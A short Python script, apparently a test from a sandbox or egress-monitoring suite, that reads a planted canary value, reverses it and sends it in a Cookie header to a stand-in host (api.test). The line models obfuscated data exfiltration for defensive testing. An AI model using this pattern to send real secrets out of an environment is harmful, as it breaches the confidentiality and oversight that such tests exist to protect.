# Sends what is in a planted file backwards, in a header.
# network: held
from prelude import TOLD, canary, get, say

print(say(get(f"http://api.test:{TOLD['WEB']}/", f"Cookie: a={canary()[::-1].decode()}"))[:100])
print("tried")
